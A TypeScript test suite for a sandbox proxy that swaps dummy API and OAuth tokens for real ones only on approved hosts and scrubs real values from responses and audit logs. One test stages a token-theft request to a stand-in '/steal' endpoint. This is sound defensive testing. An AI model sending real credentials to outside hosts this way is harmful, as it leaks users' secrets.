// The credential swap through the real proxy: an echo server that reflects what it received
// stands in for a credential host (it gets the real value) and for any other host (it gets the
// dummy); the client, playing the jail, must only ever see the dummy.
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import type http from "node:http";
import https from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { makeDummy } from "../../src/proxy/index.js";
import {
  reply,
  startHttpsUpstream,
  startHttpUpstream,
  startTestProxy,
  type TestProxy,
  tunnelAgent,
  type Upstream,
  viaProxy,
} from "./helpers.js";

const REAL = `sk-ant-api03-${"R3alSecret_x".repeat(8)}AA`;
const DUMMY = makeDummy(REAL);

/** What the echo server received, as it would reflect it back. */
const received: { host: string; url: string; headers: http.IncomingHttpHeaders; body: string }[] =
  [];

function echo(req: http.IncomingMessage, res: http.ServerResponse): void {
  let body = "";
  req.on("data", (chunk) => {
    body += chunk;
  });
  req.on("end", () => {
    const seen = { host: req.headers.host ?? "", url: req.url ?? "", headers: req.headers, body };
    received.push(seen);
    const reflected = JSON.stringify(seen);
    // The reflected request in a header too, and gzipped when asked for: either way it must be scrubbed.
    const headers: http.OutgoingHttpHeaders = {
      "x-echo-key": String(req.headers["x-api-key"] ?? ""),
    };
    if (req.url?.startsWith("/gzip")) {
      res.writeHead(200, { ...headers, "content-encoding": "gzip" });
      res.end(gzipSync(reflected));
      return;
    }
    res.writeHead(200, headers);
    // Byte by byte: a real value split across many chunks.
    for (const char of reflected) res.write(char);
    res.end();
  });
}

let tls: Upstream;
let plain: Upstream;
let proxy: TestProxy;

beforeAll(async () => {
  tls = await startHttpsUpstream(echo);
  plain = await startHttpUpstream(echo);
  proxy = await startTestProxy(
    [
      { action: "allow", host: "api.anthropic.com" },
      { action: "allow", host: "echo.example" },
    ],
    {
      upstreams: {
        "api.anthropic.com": { address: "127.0.0.1", port: tls.port },
        "echo.example": { address: "127.0.0.1", port: plain.port },
      },
      extraUpstreamCaPems: [tls.caPem],
      credentials: [{ name: "anthropic", hosts: ["api.anthropic.com"], real: REAL, dummy: DUMMY }],
    },
  );
});

afterAll(async () => {
  await proxy.finish();
  await tls.close();
  await plain.close();
});

const agent = () => tunnelAgent(proxy.socketPath, { ca: proxy.proxy.caCertPem });

function toCredentialHost(path: string, body: string) {
  return reply(
    https.request({
      host: "api.anthropic.com",
      port: 443,
      method: "POST",
      path,
      agent: agent(),
      headers: { "x-api-key": DUMMY, "accept-encoding": "gzip" },
    }),
    body,
  );
}

describe("credentials through the proxy", () => {
  test("the credential host gets the real value; the jail sees only the dummy echoed", async () => {
    const before = received.length;
    const res = await toCredentialHost(`/v1/messages?key=${DUMMY}`, `{"echo":"${DUMMY}"}`);
    const upstream = received[before];
    expect(upstream?.headers["x-api-key"]).toBe(REAL);
    expect(upstream?.url).toBe(`/v1/messages?key=${REAL}`);
    // The body is not touched on the way up: only headers and the query carry injected values.
    expect(upstream?.body).toBe(`{"echo":"${DUMMY}"}`);
    expect(upstream?.headers["accept-encoding"]).toBe("identity");
    expect(res.status).toBe(200);
    expect(res.body).toContain(DUMMY);
    expect(res.body).not.toContain(REAL);
    expect(res.headers["x-echo-key"]).toBe(DUMMY);
  });

  test("a compressed echo is decoded and scrubbed", async () => {
    const res = await toCredentialHost("/gzip", "");
    expect(res.headers["content-encoding"]).toBeUndefined();
    const echoed = JSON.parse(res.body) as { headers: Record<string, string> };
    expect(echoed.headers["x-api-key"]).toBe(DUMMY);
  });

  test("a host that is not the credential's receives the dummy", async () => {
    const before = received.length;
    const res = await reply(
      viaProxy(proxy.socketPath, `http://echo.example/steal?k=${DUMMY}`, {
        headers: { authorization: `Bearer ${DUMMY}` },
      }),
    );
    expect(res.status).toBe(200);
    const upstream = received[before];
    expect(upstream?.headers.authorization).toBe(`Bearer ${DUMMY}`);
    expect(upstream?.url).toBe(`/steal?k=${DUMMY}`);
    expect(JSON.stringify(received)).not.toContain(`/steal?k=${REAL}`);
  });

  test("the audit log names the credential, flags the dummy sent elsewhere, and holds no real value", async () => {
    const entries = await proxy.finish();
    expect(entries).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          method: "POST",
          url: `https://api.anthropic.com/v1/messages?key=${DUMMY}`,
          credentials: ["anthropic"],
        }),
        expect.objectContaining({
          url: `http://echo.example/steal?k=${DUMMY}`,
          dummySentTo: ["anthropic"],
        }),
      ]),
    );
    expect(JSON.stringify(entries)).not.toContain(REAL);
  });
});

describe("an OAuth refresh through the proxy", () => {
  const ACCESS = `sk-ant-oat01-${"R3alAccess_x".repeat(6)}AA`;
  const REFRESH = `sk-ant-ort01-${"R3alRefresh_".repeat(6)}AA`;
  const NEW_ACCESS = `sk-ant-oat01-${"N3wAccess_xx".repeat(6)}AA`;
  const NEW_REFRESH = `sk-ant-ort01-${"N3wRefresh_x".repeat(6)}AA`;
  let dir: string;
  let login: string;
  let server: Upstream;
  let oauthProxy: TestProxy;
  const accessDummy = makeDummy(ACCESS);
  const refreshDummy = makeDummy(REFRESH);
  /** What the fake token endpoint and API received. */
  const seen: { url: string; authorization: string; body: string }[] = [];

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "jailed-oauth-"));
    login = join(dir, ".credentials.json");
    await writeFile(
      login,
      JSON.stringify({
        claudeAiOauth: { accessToken: ACCESS, refreshToken: REFRESH, expiresAt: 1 },
      }),
      { mode: 0o600 },
    );
    server = await startHttpsUpstream((req, res) => {
      let body = "";
      req.on("data", (chunk) => {
        body += chunk;
      });
      req.on("end", () => {
        seen.push({ url: req.url ?? "", authorization: req.headers.authorization ?? "", body });
        if (req.url === "/v1/oauth/token") {
          // Compressed although identity was asked for: the proxy must decode it to rewrite it.
          res.writeHead(200, { "content-type": "application/json", "content-encoding": "gzip" });
          res.end(
            gzipSync(
              JSON.stringify({
                access_token: NEW_ACCESS,
                refresh_token: NEW_REFRESH,
                expires_in: 28800,
              }),
            ),
          );
        } else {
          res.writeHead(200, { "content-type": "application/json" });
          res.end(JSON.stringify({ echo: req.headers.authorization }));
        }
      });
    });
    const map = { address: "127.0.0.1", port: server.port };
    oauthProxy = await startTestProxy(
      [
        { action: "allow", host: "api.anthropic.com" },
        { action: "allow", host: "platform.claude.com" },
      ],
      {
        upstreams: { "api.anthropic.com": map, "platform.claude.com": map },
        extraUpstreamCaPems: [server.caPem],
        credentials: [
          {
            name: "claude-oauth",
            hosts: ["api.anthropic.com"],
            real: ACCESS,
            dummy: accessDummy,
            oauth: {
              file: login,
              accessPointer: "/claudeAiOauth/accessToken",
              refreshPointer: "/claudeAiOauth/refreshToken",
              expiresAtPointer: "/claudeAiOauth/expiresAt",
              tokenUrls: ["https://platform.claude.com/v1/oauth/token"],
              refresh: { real: REFRESH, dummy: refreshDummy },
            },
          },
        ],
      },
    );
  });

  afterAll(async () => {
    await oauthProxy.finish();
    await server.close();
    await rm(dir, { recursive: true, force: true });
  });

  const call = (host: string, path: string, headers: Record<string, string>, body: string) =>
    reply(
      https.request({
        host,
        port: 443,
        method: "POST",
        path,
        agent: tunnelAgent(oauthProxy.socketPath, { ca: oauthProxy.proxy.caCertPem }),
        headers,
      }),
      body,
    );

  test("the endpoint gets the real refresh token, the jail dummies, the API the new real token, the host file the new tokens", async () => {
    const refreshed = await call(
      "platform.claude.com",
      "/v1/oauth/token",
      { "content-type": "application/json" },
      JSON.stringify({ grant_type: "refresh_token", refresh_token: refreshDummy }),
    );
    expect(seen.at(-1)?.body).toBe(
      JSON.stringify({ grant_type: "refresh_token", refresh_token: REFRESH }),
    );
    expect(refreshed.status).toBe(200);
    const tokens = JSON.parse(refreshed.body) as { access_token: string; refresh_token: string };
    expect(refreshed.body).not.toContain(NEW_ACCESS);
    expect(refreshed.body).not.toContain(NEW_REFRESH);
    expect(tokens.access_token).toMatch(/^sk-ant-oat01-/);
    expect(tokens.access_token).toHaveLength(NEW_ACCESS.length);

    const answer = await call(
      "api.anthropic.com",
      "/v1/messages",
      { authorization: `Bearer ${tokens.access_token}` },
      "{}",
    );
    expect(seen.at(-1)?.authorization).toBe(`Bearer ${NEW_ACCESS}`);
    // Echoed back, the new real token reaches the jail as its dummy.
    expect(JSON.parse(answer.body)).toEqual({ echo: `Bearer ${tokens.access_token}` });

    const saved = JSON.parse(await readFile(login, "utf8")).claudeAiOauth;
    expect(saved).toMatchObject({ accessToken: NEW_ACCESS, refreshToken: NEW_REFRESH });
    expect(saved.expiresAt).toBeGreaterThan(Date.now() + 28_000_000);

    const entries = await oauthProxy.finish();
    expect(entries).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          url: "https://platform.claude.com/v1/oauth/token",
          credentials: ["claude-oauth"],
        }),
      ]),
    );
    for (const secret of [ACCESS, REFRESH, NEW_ACCESS, NEW_REFRESH])
      expect(JSON.stringify(entries)).not.toContain(secret);
  });
});
